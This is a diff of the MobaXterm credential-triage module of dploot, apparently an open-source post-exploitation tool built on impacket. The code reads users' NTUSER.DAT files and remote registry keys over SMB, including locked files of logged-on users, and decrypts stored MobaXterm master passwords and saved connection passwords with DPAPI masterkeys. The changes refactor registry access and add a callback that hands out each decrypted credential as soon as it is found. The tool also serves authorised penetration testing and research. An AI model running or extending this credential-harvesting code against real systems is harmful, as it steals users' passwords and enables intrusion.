@@ -3,15 +3,14 @@ import logging
 import ntpath
 import os
 import tempfile
-from typing import Dict, List, Tuple
+from typing import Callable, Dict, List, Tuple
 from Cryptodome.Cipher import AES
 
 from impacket import winregistry
-from impacket.dcerpc.v5 import rrp
-from impacket.system_errors import ERROR_NO_MORE_ITEMS, ERROR_FILE_NOT_FOUND
 
 from dploot.lib.dpapi import decrypt_blob, find_masterkey_for_blob
 from dploot.lib.smb import DPLootSMBConnection
+from dploot.lib.stats import instrument
 from dploot.lib.target import Target
 from dploot.triage.masterkeys import Masterkey
 from dataclasses import dataclass
@@ -96,38 +95,52 @@ class MobaXtermTriage:
     mobaxterm_passwords_registry_key = "P"
     mobaxterm_credentials_registry_key = "C"
 
-    ntuser_dat_path = "Users\\{username}\\NTUSER.DAT"
+    ntuser_dat_path = "{profile_path}\\NTUSER.DAT"
     share = "C$"
 
-    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey]) -> None:
+    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey], per_finding_callback: Callable[["MobaXtermCredential | MobaXtermPassword"], None] = None) -> None:
         self.target = target
         self.conn = conn
 
         self._users = None
         self.masterkeys = masterkeys
+        self.per_finding_callback = per_finding_callback
 
+    def found(self, credential: "MobaXtermCredential | MobaXtermPassword") -> "MobaXtermCredential | MobaXtermPassword":
+        ''' Hands credential to per_finding_callback as soon as it is decrypted, before the triage returns '''
+        if self.per_finding_callback is not None:
+            self.per_finding_callback(credential)
+        return credential
+
+    @instrument()
     def triage_mobaxterm(self) -> Tuple[List[MobaXtermMasterPassword], List["MobaXtermCredential | MobaXtermPassword"]]:
         logging.getLogger("impacket").disabled = True
         mobaxterm_credentials = []
         mobaxterm_masterpassword_key = []
-        for user,sid in self.users.items():
-            try:
-                masterpassword_key, credentials = self.triage_mobaxterm_for_user(user,sid)
-                if masterpassword_key is not None:
-                    mobaxterm_credentials += credentials
-                    mobaxterm_masterpassword_key.append(masterpassword_key)
-            except Exception as e:
-                if logging.getLogger().level == logging.DEBUG:
-                    import traceback
-                    traceback.print_exc()
-                    logging.debug(str(e))
+        # NTUSER.DAT of logged on users are locked: copy them all at once
+        self.conn.acquire_locked_files(self.share, [self.ntuser_dat_path.format(profile_path=self.conn.user_profile_path(user)) for user in self.users])
+        try:
+            for user,sid in self.users.items():
+                try:
+                    masterpassword_key, credentials = self.triage_mobaxterm_for_user(user,sid)
+                    if masterpassword_key is not None:
+                        mobaxterm_credentials += credentials
+                        mobaxterm_masterpassword_key.append(masterpassword_key)
+                except Exception as e:
+                    if logging.getLogger().level == logging.DEBUG:
+                        import traceback
+                        traceback.print_exc()
+                        logging.debug(str(e))
+        finally:
+            self.conn.release_locked_files()
         return mobaxterm_masterpassword_key, mobaxterm_credentials
 
+    @instrument()
     def triage_mobaxterm_for_user(self, user: str, sid: str = None) -> Tuple[MobaXtermMasterPassword, List["MobaXtermCredential | MobaXtermPassword"]]:
         mobaxterm_masterpassword = None
         mobaxterm_credentials = []
         try:
-            ntuser_dat_bytes = self.conn.readFile(self.share,self.ntuser_dat_path.format(username=user),bypass_shared_violation = True)
+            ntuser_dat_bytes = self.conn.readFile(self.share,self.ntuser_dat_path.format(profile_path=self.conn.user_profile_path(user)),bypass_shared_violation = True)
         except Exception as e:
             import traceback
             traceback.print_exc()
@@ -150,6 +163,7 @@ class MobaXtermTriage:
         mobaxterm_key = b64decode(mobaxterm_masterpassword.masterpassword_decrypted)[0:32]
         for credential in mobaxterm_credentials:
             credential.decrypt(mobaxterm_key)
+            self.found(credential)
 
         return mobaxterm_masterpassword, mobaxterm_credentials
 
@@ -243,44 +257,30 @@ class MobaXtermTriage:
         mobaxterm_password.decrypt(masterpassword_key=mobaxterm_masterpassword.masterpassword_decrypted)
 
     def extract_mobaxtermkeys_for_user_from_remote_registry(self, user: str, sid: str) -> Tuple[MobaXtermMasterPassword, List["MobaXtermCredential | MobaXtermPassword"]]:
-        self.conn.enable_remoteops()
+        registry = self.conn.remote_registry
 
-        entropy = None
         mobaxterm_masterpassword_key = None
         mobaxterm_credentials = []
 
         # Extract entropy
-        ans = rrp.hOpenUsers(self.conn.remote_ops._RemoteOperations__rrp)
-        regHandle = ans["phKey"]
         regKey = ntpath.join(sid,self.mobaxterm_registry_key_path)
-        keyHandle = None
-        try:
-            ans2 = rrp.hBaseRegOpenKey(self.conn.remote_ops._RemoteOperations__rrp, regHandle, regKey, samDesired=rrp.MAXIMUM_ALLOWED | rrp.KEY_ENUMERATE_SUB_KEYS | rrp.KEY_QUERY_VALUE)
-            keyHandle = ans2["phkResult"]
-            _, entropy = rrp.hBaseRegQueryValue(self.conn.remote_ops._RemoteOperations__rrp, keyHandle, 'SessionP')
-            entropy = entropy.rstrip("\00").encode('utf-8')
-            rrp.hBaseRegCloseKey(self.conn.remote_ops._RemoteOperations__rrp, keyHandle)
-        except rrp.DCERPCSessionError as e:
-            if e.get_error_code() != ERROR_FILE_NOT_FOUND:
-                import traceback
-                traceback.print_exc()
-                logging.error(f"Error while hBaseRegOpenKey HKU\\{regKey}: {e}")
+        value = registry.query_value('HKU', regKey, 'SessionP')
+        if value is None:
             return None, []
+        entropy = value[1].rstrip("\00").encode('utf-8')
 
         # Extract M
         try:
-            ans2 = rrp.hBaseRegOpenKey(self.conn.remote_ops._RemoteOperations__rrp, regHandle, ntpath.join(regKey,self.mobaxterm_masterpassword_registry_key), samDesired=rrp.MAXIMUM_ALLOWED | rrp.KEY_ENUMERATE_SUB_KEYS | rrp.KEY_QUERY_VALUE)
-            keyHandle = ans2["phkResult"]
-            value = rrp.hBaseRegEnumValue(self.conn.remote_ops._RemoteOperations__rrp, keyHandle,0)
-            name, host = value["lpValueNameOut"].split("@")
+            values = registry.enum_values('HKU', ntpath.join(regKey,self.mobaxterm_masterpassword_registry_key))
+            value_name, (_, data) = next(iter(values.items()))
+            name, host = value_name.split("@")
             mobaxterm_masterpassword_key = MobaXtermMasterPassword(
                 winuser=user,
                 entropy=entropy,
                 host=host,
                 username=name,
-                masterpassword_raw_value=b"".join(value["lpData"])
+                masterpassword_raw_value=data
             )
-            rrp.hBaseRegCloseKey(self.conn.remote_ops._RemoteOperations__rrp, keyHandle)
         except Exception as e:
             if logging.getLogger().level == logging.DEBUG:
                 import traceback
@@ -289,33 +289,22 @@ class MobaXtermTriage:
 
         # Extract C and P
         for key in [self.mobaxterm_credentials_registry_key, self.mobaxterm_passwords_registry_key]:
-            ans2 = rrp.hBaseRegOpenKey(self.conn.remote_ops._RemoteOperations__rrp, regHandle, ntpath.join(regKey,key), samDesired=rrp.MAXIMUM_ALLOWED | rrp.KEY_ENUMERATE_SUB_KEYS | rrp.KEY_QUERY_VALUE)
-            keyHandle = ans2["phkResult"]
-            i = 0
-            while True:
-                try:
-                    value = rrp.hBaseRegEnumValue(self.conn.remote_ops._RemoteOperations__rrp, keyHandle, i)
-                    data = b''.join(value["lpData"])
-                    name = value["lpValueNameOut"].rstrip("\00")
-                    if b":" in data:
-                        username, password_encrypted = data.split(b":")
-                        mobaxterm_credential = MobaXtermCredential(
-                            winuser=user,
-                            name=name,
-                            username=username.decode('utf-16le', errors='backslashreplace'),
-                            password_encrypted=password_encrypted,
-                        )
-                    else:
-                        mobaxterm_credential = MobaXtermPassword(
-                            winuser=user,
-                            username=name, 
-                            password_encrypted=data
-                        )
-                    mobaxterm_credentials.append(mobaxterm_credential)
-                    i += 1
-                except rrp.DCERPCSessionError as e:
-                    if e.get_error_code() == ERROR_NO_MORE_ITEMS:
-                        break
+            for name, (_, data) in registry.enum_values('HKU', ntpath.join(regKey,key)).items():
+                if b":" in data:
+                    username, password_encrypted = data.split(b":")
+                    mobaxterm_credential = MobaXtermCredential(
+                        winuser=user,
+                        name=name,
+                        username=username.decode('utf-16le', errors='backslashreplace'),
+                        password_encrypted=password_encrypted,
+                    )
+                else:
+                    mobaxterm_credential = MobaXtermPassword(
+                        winuser=user,
+                        username=name, 
+                        password_encrypted=data
+                    )
+                mobaxterm_credentials.append(mobaxterm_credential)
 
         return mobaxterm_masterpassword_key, mobaxterm_credentials
 
@@ -325,60 +314,6 @@ class MobaXtermTriage:
         if self._users is not None:
             return self._users
 
-        users = dict()
-        sids = []
-        userlist_key = "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList"
+        self._users = {profile.username: profile.sid for profile in self.conn.list_user_profiles() if profile.sid is not None}
 
-        if self.conn.local_session:
-            reg = winregistry.Registry(os.path.join(self.conn.target.local_root, r'Windows/System32/config/SOFTWARE'), isRemote=False)
-            parentKey=reg.findKey(userlist_key[8:])
-            if parentKey is None:
-                self._users = users
-                reg.close()
-                return self._users
-
-            sids=list(reg.enumKey(parentKey))
-
-            for sid in sids:
-                (v_type, v_data)= reg.getValue(ntpath.join(userlist_key[8:], sid, 'ProfileImagePath'))
-                profile_path=v_data.decode('utf-16le').rstrip("\0")
-                if r"%systemroot%" in profile_path:
-                    continue
-                users[ntpath.basename(profile_path)] = sid
-
-            reg.close()
-
-        else:
-            self.conn.enable_remoteops()
-            ans = rrp.hOpenLocalMachine(self.conn.remote_ops._RemoteOperations__rrp)
-            regHandle = ans['phKey']
-
-            ans = rrp.hBaseRegOpenKey(self.conn.remote_ops._RemoteOperations__rrp, regHandle, userlist_key, samDesired=rrp.MAXIMUM_ALLOWED | rrp.KEY_ENUMERATE_SUB_KEYS | rrp.KEY_QUERY_VALUE)
-            keyHandle = ans['phkResult']
-
-            i = 0
-            while True:
-                try:
-                    ans2 = rrp.hBaseRegEnumKey(self.conn.remote_ops._RemoteOperations__rrp, keyHandle, i)
-                    sids.append(ans2["lpNameOut"])
-                except rrp.DCERPCSessionError as e:
-                    if e.get_error_code() == ERROR_NO_MORE_ITEMS:
-                        break
-                except Exception as e:
-                    if logging.getLogger().level == logging.DEBUG:
-                        import traceback
-                        traceback.print_exc()
-                    logging.error(e)
-                i +=1
-            rrp.hBaseRegCloseKey(self.conn.remote_ops._RemoteOperations__rrp, keyHandle)
-            for sid in sids:
-                ans = rrp.hBaseRegOpenKey(self.conn.remote_ops._RemoteOperations__rrp, regHandle, ntpath.join(userlist_key,sid), samDesired=rrp.MAXIMUM_ALLOWED | rrp.KEY_ENUMERATE_SUB_KEYS | rrp.KEY_QUERY_VALUE)
-                keyHandle = ans['phkResult']
-                _,  profile_path = rrp.hBaseRegQueryValue(self.conn.remote_ops._RemoteOperations__rrp, keyHandle, 'ProfileImagePath')
-                if r"%systemroot%" in profile_path:
-                    continue
-                users[ntpath.basename(profile_path.rstrip("\0"))] = sid.rstrip("\0")
-                rrp.hBaseRegCloseKey(self.conn.remote_ops._RemoteOperations__rrp, keyHandle)
-
-        self._users = users
-        return self._users
\ No newline at end of file
+        return self._users